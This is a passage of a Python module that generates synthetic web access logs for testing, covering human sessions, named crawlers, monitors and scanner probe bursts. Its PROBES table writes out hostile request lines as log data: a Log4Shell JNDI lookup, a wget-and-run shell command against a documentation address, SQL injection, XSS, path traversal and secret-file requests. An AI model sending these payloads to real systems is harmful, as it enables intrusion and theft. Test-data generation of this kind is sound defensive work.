"""Deterministic synthetic web traffic: realistic mixes, adversarial modes and fuzzing.

Everything here is driven by one `random.Random(seed)`: the same arguments give the same bytes, on
every run and every machine (no `hash()`, no wall clock).

Speed comes from doing the expensive part once. Each call builds a pool of *templates* — a human
session (a page view, then its stylesheets, scripts, fonts and images, then more pages after a
pause), a crawler visit, a scanner's probe burst — and renders every request of every template into
byte fragments of the chosen format. Generating a line is then: pick a template, pick a client
address, schedule the template's requests on a heap so concurrent visits interleave, and glue the
pre-rendered fragments around the client address and a cached timestamp.

Public entry points:
- `generate(n, fmt=..., seed=..., start=..., rate=..., spikes=..., distinct_paths=..., mode=...)`
  yields `n` lines (bytes ending in b"\\n");
- `write(path, n, **kwargs)` writes them to a file and returns the number of bytes written;
- `hostile(n, seed=..., start=...)` yields combined-format lines full of markup brackets, terminal
  escapes, bidi overrides, NULs, invalid UTF-8 and one ~200 KB line, mixed with ordinary traffic;
- `mutate(line, rng)` / `mutate_lines(lines, seed=..., rate=...)` damage lines for fuzzing.
"""

from __future__ import annotations

import calendar
import functools
import heapq
import itertools
import json
import random
import re
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

FORMATS: tuple[str, ...] = (
    "combined",
    "combined_rt",
    "common",
    "vhost_combined",
    "caddy_json",
    "traefik_json",
    "nginx_json",
)
MODES: tuple[str, ...] = ("realistic", "cardinality")

# 2026-10-10 00:00:00 UTC: a fixed default, so output never depends on the clock.
DEFAULT_START: float = float(calendar.timegm((2026, 10, 10, 0, 0, 0)))
DEFAULT_HOST = "example.com"


@dataclass(frozen=True, slots=True)
class Spike:
    """A stretch of time (seconds after `start`) where part of the traffic turns bad.

    kind "errors": page views and API calls answer 500/502/503/504 with long upstream times.
    kind "probes": scanners fire bursts of probe requests (secret files, exploits, handshakes).
    `share` is the fraction of visits started inside the window that are replaced; `intensity`
    multiplies the rate at which visits arrive inside the window (bad traffic comes in floods).
    """

    at: float
    duration: float
    kind: str = "errors"
    share: float = 0.6
    intensity: float = 3.0

    def __post_init__(self) -> None:
        if self.kind not in ("errors", "probes"):
            raise ValueError(f"unknown spike kind {self.kind!r}: use 'errors' or 'probes'")


@dataclass(slots=True)
class Req:
    """One request before rendering. `method=None` means `uri` is a raw (garbage) request line."""

    method: str | None
    uri: str
    status: int
    size: int
    referrer: str = "-"
    agent: str = "-"
    proto: str = "HTTP/1.1"
    rt: float = 0.0
    urt: str = "-"
    host: str = DEFAULT_HOST


# --------------------------------------------------------------------------------------------------
# Vocabulary: user agents, bots, sites, probes.

_CHROME = ("126.0.6478.127", "127.0.6533.89", "128.0.6613.120", "129.0.6668.90", "130.0.6723.70")
_FIREFOX = ("128.0", "129.0", "130.0", "131.0")
_SAFARI = ("17.5", "17.6", "18.0", "18.1")
_ANDROID_BUILDS = (
    "AP3A.240617.008",
    "AP2A.240805.005",
    "UP1A.231005.007",
    "TP1A.220624.014",
    "SP1A.210812.016",
)
_ANDROID_MODELS = ("Pixel 8", "Pixel 7a", "SM-S918B", "SM-A546B", "2201117TG", "CPH2451")


def _browser_agents() -> list[str]:
    agents: list[str] = []
    for v in _CHROME:
        agents += [
            f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{v} Safari/537.36",
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like "
            "Gecko) "
            f"Chrome/{v} Safari/537.36",
            f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{v} Safari/537.36",
            f"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{v} Mobile Safari/537.36",
            f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
            f"Chrome/{v} Safari/537.36 Edg/{v.split('.')[0]}.0.2592.87",
        ]
    for v in _FIREFOX:
        agents += [
            f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}) Gecko/20100101 Firefox/{v}",
            f"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}) Gecko/20100101 Firefox/{v}",
            f"Mozilla/5.0 (Macintosh; Intel Mac OS X 14.6; rv:{v}) Gecko/20100101 Firefox/{v}",
        ]
    for v in _SAFARI:
        agents += [
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like "
            "Gecko) "
            f"Version/{v} Safari/605.1.15",
            f"Mozilla/5.0 (iPhone; CPU iPhone OS {v.replace('.', '_')} like Mac OS X) "
            "AppleWebKit/605.1.15 "
            f"(KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1",
            f"Mozilla/5.0 (iPad; CPU OS {v.replace('.', '_')} like Mac OS X) AppleWebKit/605.1.15 "
            f"(KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1",
        ]
    # Android WebViews and vendor browsers carry build ids; CUBOT phones and the SogouMSE browser
    # are classic false-positive traps for naive "bot"/"sogou" substring matching.
    for i, build in enumerate(_ANDROID_BUILDS):
        model = _ANDROID_MODELS[i % len(_ANDROID_MODELS)]
        v = _CHROME[i % len(_CHROME)]
        agents += [
            f"Mozilla/5.0 (Linux; Android 14; {model} Build/{build}; wv) AppleWebKit/537.36 "
            f"(KHTML, like Gecko) Version/4.0 Chrome/{v} Mobile Safari/537.36",
            f"Mozilla/5.0 (Linux; Android 13; {model} Build/{build}) AppleWebKit/537.36 "
            f"(KHTML, like Gecko) SamsungBrowser/25.0 Chrome/{v} Mobile Safari/537.36",
        ]
    agents += [
        "Mozilla/5.0 (Linux; Android 12; CUBOT KINGKONG 7 Build/SP1A.210812.016) "
        "AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/128.0.6613.120 Mobile Safari/537.36",
        "Mozilla/5.0 (Linux; U; Android 11; zh-cn; V2055A Build/RP1A.200720.012) "
        "AppleWebKit/537.36 "
        "(KHTML, like Gecko) Version/4.0 Chrome/78.0.3904.108 Mobile Safari/537.36 "
        "SogouMSE,SogouMobileBrowser/5.39.4",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/126.0.0.0 Safari/537.36 OPR/112.0.0.0",
    ]
    return agents


BROWSER_AGENTS: tuple[str, ...] = tuple(_browser_agents())


@dataclass(frozen=True, slots=True)
class Bot:
    name: str
    category: str
    weight: float  # relative share of bot visits
    kind: str  # what it fetches: crawl, page, feed, health, api, preview
    nets: tuple[str, ...]  # address prefixes: "66.249.66." or "2a03:2880:f800::"
    agents: tuple[str, ...]


# fmt: off
BOTS: tuple[Bot, ...] = tuple(Bot(*row) for row in (
    # search engines
    ("Googlebot", "search", 6, "crawl", ("66.249.66.", "66.249.68.", "66.249.79."), (
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, "
        "like Gecko) Chrome/128.0.6613.119 Mobile Safari/537.36 (compatible; Googlebot/2.1; "
        "+http://www.google.com/bot.html)",
        "Googlebot-Image/1.0",
    )),
    ("bingbot", "search", 4, "crawl", ("157.55.39.", "207.46.13.", "40.77.167."), (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
        "+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
    )),
    ("YandexBot", "search", 1.5, "crawl", ("5.255.231.", "213.180.203."), (
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    )),
    ("Baiduspider", "search", 1, "crawl", ("220.181.108.", "116.179.32."), (
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)",
    )),
    ("DuckDuckBot", "search", 0.5, "crawl", ("20.191.45.", "40.88.21."), (
        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)",
    )),
    ("Applebot", "search", 0.8, "crawl", ("17.241.219.", "17.22.237."), (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like "
        "Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
    )),
    ("Sogou", "search", 0.4, "crawl", ("123.126.113.",), (
        "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)",
    )),
    # AI crawlers and assistants
    ("GPTBot", "ai", 3, "crawl", ("20.171.207.", "52.230.152."), (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; "
        "+https://openai.com/gptbot)",
    )),
    ("ChatGPT-User", "ai", 0.8, "page", ("23.98.142.", "40.84.180."), (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; "
        "+https://openai.com/bot",
    )),
    ("OAI-SearchBot", "ai", 0.5, "crawl", ("20.42.10.",), (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-SearchBot/1.0; "
        "+https://openai.com/searchbot",
    )),
    ("ClaudeBot", "ai", 3, "crawl", ("216.73.216.", "3.84.221."), (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; "
        "+claudebot@anthropic.com)",
    )),
    ("CCBot", "ai", 1.5, "crawl", ("18.97.14.", "18.97.9."), (
        "CCBot/2.0 (https://commoncrawl.org/faq/)",
    )),
    ("PerplexityBot", "ai", 1, "crawl", ("44.221.181.", "3.224.62."), (
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; "
        "+https://perplexity.ai/perplexitybot)",
    )),
    ("Bytespider", "ai", 1.5, "crawl", ("47.128.33.", "110.249.201."), (
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile "
        "Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)",
    )),
    ("Amazonbot", "ai", 1, "crawl", ("52.70.240.", "3.224.220."), (
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like "
        "Gecko) Chrome/119.0.0.0 Safari/537.36 (Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)",
    )),
    ("meta-externalagent", "ai", 1, "crawl", ("57.141.0.", "2a03:2880:f806::"), (
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)",
    )),
    # SEO tools
    ("AhrefsBot", "seo", 3, "crawl", ("54.36.148.", "5.39.1.", "51.222.253."), (
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    )),
    ("SemrushBot", "seo", 2.5, "crawl", ("185.191.171.", "85.208.96."), (
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    )),
    ("MJ12bot", "seo", 1, "crawl", ("136.243.228.", "144.76.71."), (
        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    )),
    ("DotBot", "seo", 0.7, "crawl", ("216.244.66.",), (
        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)",
    )),
    ("DataForSeoBot", "seo", 0.5, "crawl", ("136.243.220.",), (
        "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
    )),
    # link previews
    ("facebookexternalhit", "social", 1.5, "preview", ("173.252.107.", "69.63.184.", "2a03:2880:f800::"), (
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    )),
    ("Twitterbot", "social", 1, "preview", ("199.16.157.", "199.59.150."), ("Twitterbot/1.0",)),
    ("Slackbot", "social", 0.8, "preview", ("3.90.229.", "54.209.7."), (
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    )),
    ("LinkedInBot", "social", 0.5, "preview", ("108.174.2.",), (
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)",
    )),
    ("Discordbot", "social", 0.5, "preview", ("35.227.62.",), (
        "Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)",
    )),
    ("TelegramBot", "social", 0.4, "preview", ("149.154.161.",), (
        "TelegramBot (like TwitterBot)",
    )),
    ("WhatsApp", "social", 0.4, "preview", ("31.13.66.", "2a03:2880:f21a::"), (
        "WhatsApp/2.23.20.0",
    )),
    # uptime monitors and health checks
    ("UptimeRobot", "monitor", 2, "health", ("216.144.248.", "69.162.124."), (
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    )),
    ("kube-probe", "monitor", 3, "health", ("10.244.0.", "10.244.1."), ("kube-probe/1.30",)),
    ("Pingdom", "monitor", 0.8, "health", ("5.172.196.", "178.255.152."), (
        "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
    )),
    ("ELB-HealthChecker", "monitor", 1, "health", ("172.31.12.",), ("ELB-HealthChecker/2.0",)),
    ("Datadog", "monitor", 0.4, "health", ("3.233.144.",), ("Datadog/Synthetics",)),
    # feed readers
    ("Feedly", "feed", 0.8, "feed", ("52.90.183.",), (
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)",
    )),
    ("Feedbin", "feed", 0.4, "feed", ("174.138.119.",), (
        "Feedbin feed-id:2139832 - 4 subscribers",
    )),
    ("NewsBlur", "feed", 0.3, "feed", ("45.33.92.",), (
        "NewsBlur Feed Fetcher - 3 subscribers - "
        "https://www.newsblur.com/site/6192721/example (Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36)",
    )),
    ("Inoreader", "feed", 0.3, "feed", ("144.76.234.",), (
        "Mozilla/5.0 (compatible; Inoreader/1.0; https://www.inoreader.com/feed-fetcher; 5 "
        "subscribers; )",
    )),
    # HTTP libraries and command-line tools
    ("curl", "library", 1.5, "api", ("203.0.113.", "2001:db8:42::"), (
        "curl/8.5.0",
        "curl/7.88.1",
        "curl/8.9.1",
    )),
    ("python-requests", "library", 1.5, "api", ("34.82.17.", "35.199.8."), (
        "python-requests/2.31.0",
        "python-requests/2.32.3",
    )),
    ("Go-http-client", "library", 1.2, "api", ("167.94.138.", "198.51.100."), (
        "Go-http-client/1.1",
        "Go-http-client/2.0",
    )),
    ("Wget", "library", 0.4, "page", ("91.121.80.",), ("Wget/1.21.4",)),
    ("okhttp", "library", 0.5, "api", ("100.24.50.",), ("okhttp/4.12.0",)),
    ("axios", "library", 0.5, "api", ("18.204.11.",), ("axios/1.7.2",)),
    ("python-urllib", "library", 0.3, "page", ("139.59.33.",), ("Python-urllib/3.11",)),
    ("aiohttp", "library", 0.3, "api", ("165.22.40.",), ("Python/3.12 aiohttp/3.9.5",)),
    # other automated clients
    ("other", "other", 1, "page", ("62.210.99.", "185.224.128."), (
        "Mozilla/5.0 (compatible; Barkrowler/0.9; +https://babbar.tech/crawler)",
        "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)",
        "-",
    )),
))
# fmt: on

SCANNER_AGENTS: tuple[str, ...] = (
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "sqlmap/1.8.6#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/74.0.3729.169 Safari/537.36",  # scanners love an old Chrome disguise
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (l9explore/1.2.2)",
    "Fuzz Faster U Fool v2.1.0-dev",
    "-",
)
SCANNER_NETS: tuple[str, ...] = (
    "45.148.10.",
    "185.224.128.",
    "194.165.16.",
    "78.153.140.",
    "147.182.190.",
    "2604:a880:400:d1::",
    "87.120.113.",
    "162.142.125.",
)

# (method, uri, status) — what scanners actually send.
PROBES: tuple[tuple[str, str, int], ...] = (
    ("GET", "/.env", 404),
    ("GET", "/.env.production", 404),
    ("GET", "/api/.env", 404),
    ("GET", "/.git/config", 404),
    ("GET", "/.git/HEAD", 404),
    ("GET", "/.aws/credentials", 404),
    ("GET", "/.DS_Store", 404),
    ("GET", "/config.json", 404),
    ("GET", "/backup.sql", 404),
    ("GET", "/wp-login.php", 404),
    ("POST", "/wp-login.php", 404),
    ("GET", "/wp-admin/setup-config.php", 404),
    ("GET", "/wp-includes/wlwmanifest.xml", 404),
    ("POST", "/xmlrpc.php", 404),
    ("GET", "/phpmyadmin/", 404),
    ("GET", "/pma/index.php", 404),
    ("GET", "/admin/", 403),
    ("GET", "/server-status", 403),
    ("GET", "/phpinfo.php", 404),
    ("GET", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 404),
    ("GET", "/actuator/env", 404),
    ("GET", "/solr/admin/info/system?wt=json", 404),
    ("GET", "/../../../../etc/passwd", 400),
    ("GET", "/static/..%2f..%2f..%2fetc%2fpasswd", 404),
    ("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", 400),
    ("GET", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", 400),
    ("POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", 400),
    ("GET", "/products?id=1' OR '1'='1", 200),
    ("GET", "/search?q=1%27%20UNION%20SELECT%20NULL,NULL--", 200),
    ("GET", "/search?q=<script>alert(document.cookie)</script>", 200),
    ("GET", "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 200),
    ("GET", "/?x=${jndi:ldap://198.51.100.7:1389/Exploit}", 200),
    ("GET", "/boaform/admin/formLogin?username=admin&psd=admin", 404),
    ("POST", "/boaform/admin/formLogin", 404),
    ("GET", "/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws", 404),
    ("GET", "/HNAP1/", 404),
    ("POST", "/GponForm/diag_Form?images/", 404),
    ("GET", "/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array", 404),
    ("PROPFIND", "/", 405),
    ("CONNECT", "www.google.com:443", 400),
    ("GET", "http://198.51.100.20/proxy-check", 400),
)

# Request lines that are not HTTP: TLS and RDP handshakes sent to port 80, as nginx writes them.
GARBAGE_REQUESTS: tuple[str, ...] = (
    "\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xFC\\x03\\x03\\xA4\\x8E\\x1B\\x92\\xF0\\x17",
    "\\x16\\x03\\x01\\x00\\xF1\\x01\\x00\\x00\\xED\\x03\\x03\\x9C\\x1E\\xA7\\x0B\\x5C\\xD2",
    "\\x16\\x03\\x01\\x05\\xA8\\x01\\x00\\x05\\xA4\\x03\\x03\\xE1\\x90\\x11",
    "\\x03\\x00\\x00/*\\xE0\\x00\\x00\\x00\\x00\\x00Cookie: mstshash=Administr",
    "SSH-2.0-Go",
    "-",
)

_WORDS = (
    "cache",
    "nginx",
    "rust",
    "python",
    "latency",
    "deploy",
    "kubernetes",
    "observability",
    "logs",
    "postgres",
    "tuning",
    "release",
    "security",
    "headers",
    "tls",
    "http3",
    "metrics",
    "alerts",
    "garden",
    "coffee",
    "travel",
    "recipes",
    "design",
    "pricing",
    "roadmap",
    "changelog",
    "guide",
)
_SECTIONS = ("blog", "docs", "products", "guides", "news", "tag", "help", "shop")
_REFERRER_SITES = (
    ("https://www.google.com/", 30),
    ("https://www.bing.com/", 5),
    ("https://duckduckgo.com/", 4),
    ("https://search.brave.com/", 1),
    ("https://www.ecosia.org/", 1),
    ("https://t.co/", 3),
    ("https://www.facebook.com/", 3),
    ("https://l.facebook.com/", 2),
    ("https://www.reddit.com/", 3),
    ("https://news.ycombinator.com/", 2),
    ("https://www.linkedin.com/", 2),
    ("android-app://com.google.android.gm/", 1),
    ("https://github.com/", 2),
)
_CAMPAIGNS = (
    ("newsletter", "email", "spring_launch"),
    ("twitter", "social", "autumn_sale"),
    ("facebook", "cpc", "retargeting_q4"),
    ("google", "cpc", "brand_search"),
    ("mastodon", "social", "release_2_0"),
)


class _Site:
    """The pages, assets and API endpoints of one imaginary website."""

    def __init__(
        self, rng: random.Random, host: str, distinct_paths: int | None, n_pages: int
    ) -> None:
        self.host = host
        self.slot = distinct_paths is not None
        pages = ["/", "/about", "/pricing", "/contact", "/blog/", "/docs/", "/careers", "/signup"]
        for _ in range(n_pages):
            sect = rng.choice(_SECTIONS[:6])
            slug = "-".join(rng.sample(_WORDS, rng.randint(1, 3)))
            pages.append(f"/{sect}/{slug}" + ("/" if rng.random() < 0.2 else ""))
        self.pages = sorted(set(pages), key=pages.index)
        # Zipf-like popularity: the home page and a few posts take most of the views.
        self.page_weights = [1.0 / (i + 1) ** 0.9 for i in range(len(self.pages))]
        h = lambda: f"{rng.getrandbits(32):08x}"  # noqa: E731 - content-hash look-alikes
        self.css = [f"/static/css/main.{h()}.css", f"/static/css/vendor.{h()}.css"]
        self.js = [
            f"/static/js/app.{h()}.js",
            f"/static/js/vendor.{h()}.js",
            f"/static/js/runtime.{h()}.js",
        ]
        self.fonts = ["/static/fonts/inter-var.woff2", "/static/fonts/jetbrains-mono.woff2"]
        self.images = [
            f"/static/img/{w}.{ext}"
            for w in _WORDS[:18]
            for ext in (rng.choice(("png", "jpg", "webp", "svg")),)
        ]
        self.extras = [
            "/favicon.ico",
            "/apple-touch-icon.png",
            "/site.webmanifest",
            "/static/js/app.js.map",
        ]
        self.api = [
            "/api/v1/session",
            "/api/v1/cart",
            "/api/v1/search",
            "/api/v1/events",
            "/graphql",
        ]

    def page(self, rng: random.Random) -> str:
        if self.slot and rng.random() < 0.85:
            return PATH_SLOT
        return rng.choices(self.pages, self.page_weights)[0]

    def url(self, path: str) -> str:
        return f"https://{self.host}{path}"


# A placeholder for a page path drawn at generation time (distinct_paths mode); printable so every
# escaping rule leaves it intact.
PATH_SLOT = "/__synth_path_slot__"
_PATH_SLOT_B = PATH_SLOT.encode()


def _slot_path(k: int) -> bytes:
    return b"/%s/item-%d" % (_SECTIONS[k & 7].encode(), k)


# --------------------------------------------------------------------------------------------------
# Templates: lists of (offset seconds, Req) that share one client address.


def _size_for(path: str, rng: random.Random) -> int:
    p = path.split("?", 1)[0]
    if p.endswith(".css"):
        return rng.randint(8_000, 90_000)
    if p.endswith(".js"):
        return rng.randint(20_000, 420_000)
    if p.endswith(".map"):
        return rng.randint(200_000, 900_000)
    if p.endswith((".png", ".jpg", ".webp")):
        return rng.randint(3_000, 350_000)
    if p.endswith(".svg"):
        return rng.randint(600, 9_000)
    if p.endswith(".woff2"):
        return rng.randint(18_000, 60_000)
    if p.endswith(".ico"):
        return 15_086
    return rng.randint(4_000, 60_000)


_ERROR_SIZES = {
    301: 169,
    302: 145,
    304: 0,
    400: 157,
    403: 153,
    404: 153,
    405: 157,
    500: 177,
    502: 157,
    503: 197,
    504: 167,
}


def _page_req(
    rng: random.Random,
    path: str,
    agent: str,
    ref: str,
    host: str,
    status: int = 200,
    method: str = "GET",
) -> Req:
    rt = round(rng.lognormvariate(-3.2, 0.8), 3)  # median ~40 ms
    if status >= 500:
        rt = round(
            rng.choice((rng.uniform(0.5, 3.0), 30.0 + rng.random(), 60.0 + rng.random() * 0.01)), 3
        )
    urt = "-" if status == 502 and rng.random() < 0.5 else f"{max(rt - 0.001, 0.0):.3f}"
    size = _ERROR_SIZES.get(status, 0) if status != 200 else _size_for(path, rng)
    proto = "HTTP/2.0" if rng.random() < 0.55 else "HTTP/1.1"
    return Req(method, path, status, size, ref, agent, proto, rt, urt, host)


def _asset_req(
    rng: random.Random, path: str, agent: str, ref: str, host: str, cached: bool, proto: str
) -> Req:
    status = 304 if cached else 200
    size = 0 if cached else _size_for(path, rng)
    return Req(
        "GET", path, status, size, ref, agent, proto, round(rng.random() * 0.004, 3), "-", host
    )


def _entry_referrer(rng: random.Random) -> tuple[str, str]:
    """(referrer, query suffix for the landing URL)."""
    x = rng.random()
    if x < 0.35:
        return "-", ""
    if x < 0.45:
        src, medium, camp = rng.choice(_CAMPAIGNS)
        ref = "-" if medium == "email" else rng.choice(_REFERRER_SITES)[0]
        return ref, f"?utm_source={src}&utm_medium={medium}&utm_campaign={camp}"
    sites, weights = zip(*_REFERRER_SITES, strict=True)
    ref = rng.choices(sites, weights)[0]
    if "google" in ref and rng.random() < 0.2:
        ref += "search?q=" + "+".join(rng.sample(_WORDS, 2))
    return ref, ""


_CHROME_FULL = re.compile(r"Chrome/(\d+)\.0\.(\d+)\.(\d+)")


def _vary_agent(rng: random.Random, agent: str) -> str:
    """Real traffic has thousands of agent strings: browsers differ in their patch version."""
    if rng.random() < 0.3 or "Chrome/" not in agent:
        return agent
    return _CHROME_FULL.sub(
        lambda m: f"Chrome/{m[1]}.0.{m[2]}.{rng.randint(0, 250)}", agent, count=1
    )


def _human_session(
    rng: random.Random, site: _Site, errors: bool = False
) -> list[tuple[float, Req]]:
    agent = _vary_agent(rng, rng.choice(BROWSER_AGENTS))
    returning = rng.random() < 0.35
    ref, query = _entry_referrer(rng)
    proto = "HTTP/2.0" if rng.random() < 0.6 else "HTTP/1.1"
    host = site.host
    out: list[tuple[float, Req]] = []
    t = 0.0
    n_pages = rng.choices((1, 2, 3, 4, 6), (45, 25, 15, 10, 5))[0]
    if errors:
        n_pages = rng.choice((1, 1, 2))
    for p in range(n_pages):
        path = site.page(rng) + (query if p == 0 else "")
        status = 200
        if errors:
            status = rng.choices((500, 502, 503, 504, 200), (2, 5, 3, 1, 1))[0]
        else:
            x = rng.random()
            if x < 0.03:
                status = 404
            elif x < 0.05:
                status = 301
            elif x < 0.053:
                status = 500
        method = "POST" if path in ("/signup", "/contact") and rng.random() < 0.3 else "GET"
        req = _page_req(rng, path, agent, ref, host, status, method)
        req.proto = proto
        out.append((t, req))
        page_url = site.url(path)
        if status == 301:
            t += 0.05
            target = path.rstrip("/") + "/" if not path.endswith("/") else path.rstrip("/") or "/"
            out.append((t, _page_req(rng, target, agent, ref, host)))
            page_url = site.url(target)
        if status in (200, 404) and method == "GET":
            assets: list[str] = []
            if p == 0 or not returning:
                if p == 0:
                    assets += (
                        site.css
                        + rng.sample(site.js, rng.randint(1, 3))
                        + site.fonts[: rng.randint(0, 2)]
                    )
                assets += rng.sample(site.images, rng.randint(1, 6))
                if p == 0 and rng.random() < 0.7:
                    assets.append("/favicon.ico")
            else:
                assets += rng.sample(site.images, rng.randint(0, 2))
            at = t + 0.03
            for a in assets:
                at += rng.random() * 0.12
                out.append(
                    (
                        at,
                        _asset_req(
                            rng, a, agent, page_url, host, returning and rng.random() < 0.8, proto
                        ),
                    )
                )
            if rng.random() < 0.25:
                api = rng.choice(site.api)
                r = _page_req(rng, api, agent, page_url, host, 200, rng.choice(("GET", "POST")))
                r.size = rng.randint(60, 4_000)
                out.append((at + 0.1, r))
        ref = page_url
        t += rng.uniform(4.0, 90.0)
    return out


def _bot_visit(rng: random.Random, site: _Site, bot: Bot) -> list[tuple[float, Req]]:
    agent = rng.choice(bot.agents)
    host = site.host
    out: list[tuple[float, Req]] = []
    if bot.kind == "crawl":
        t = 0.0
        if rng.random() < 0.15:
            out.append((t, _page_req(rng, "/robots.txt", agent, "-", host)))
            out[-1][1].size = 312
            t += rng.uniform(0.5, 5.0)
        if rng.random() < 0.1:
            out.append((t, _page_req(rng, "/sitemap.xml", agent, "-", host)))
            t += rng.uniform(0.5, 5.0)
        for _ in range(rng.choices((1, 2, 4, 8), (50, 25, 15, 10))[0]):
            if bot.category == "seo" and rng.random() < 0.15:
                path, status = (
                    f"/{rng.choice(_SECTIONS)}/{rng.choice(_WORDS)}-old-{rng.randint(1, 999)}",
                    404,
                )
            else:
                path, status = site.page(rng), rng.choices((200, 301, 304, 404), (85, 4, 6, 5))[0]
            out.append((t, _page_req(rng, path, agent, "-", host, status)))
            t += rng.uniform(0.5, 20.0)
    elif bot.kind == "preview":
        path = site.page(rng)
        out.append((0.0, _page_req(rng, path, agent, "-", host)))
        if rng.random() < 0.6:
            img = rng.choice(site.images)
            out.append((0.3, _asset_req(rng, img, agent, "-", host, False, "HTTP/1.1")))
    elif bot.kind == "health":
        path = rng.choice(("/", "/healthz", "/status", "/health"))
        method = "HEAD" if bot.name in ("UptimeRobot", "Pingdom") and rng.random() < 0.6 else "GET"
        r = _page_req(rng, path, agent, "-", host, 200, method)
        r.size = 0 if method == "HEAD" else (2 if path != "/" else r.size)
        out.append((0.0, r))
    elif bot.kind == "feed":
        path = rng.choice(("/feed.xml", "/blog/rss.xml", "/atom.xml"))
        st = rng.choices((200, 304), (30, 70))[0]
        out.append((0.0, _page_req(rng, path, agent, "-", host, st)))
    elif bot.kind == "api":
        for i in range(rng.choice((1, 1, 2, 3))):
            path = rng.choice([*site.api, "/", "/api/v1/status", "/feed.xml"])
            st = rng.choices((200, 401, 404, 429), (80, 10, 5, 5))[0]
            r = _page_req(rng, path, agent, "-", host, st, rng.choice(("GET", "GET", "POST")))
            out.append((i * rng.uniform(0.2, 3.0), r))
    else:  # "page"
        out.append(
            (
                0.0,
                _page_req(
                    rng, site.page(rng), agent, "-", host, rng.choices((200, 404), (90, 10))[0]
                ),
            )
        )
    return out


def _probe_req(rng: random.Random, agent: str, host: str, which: int | None = None) -> Req:
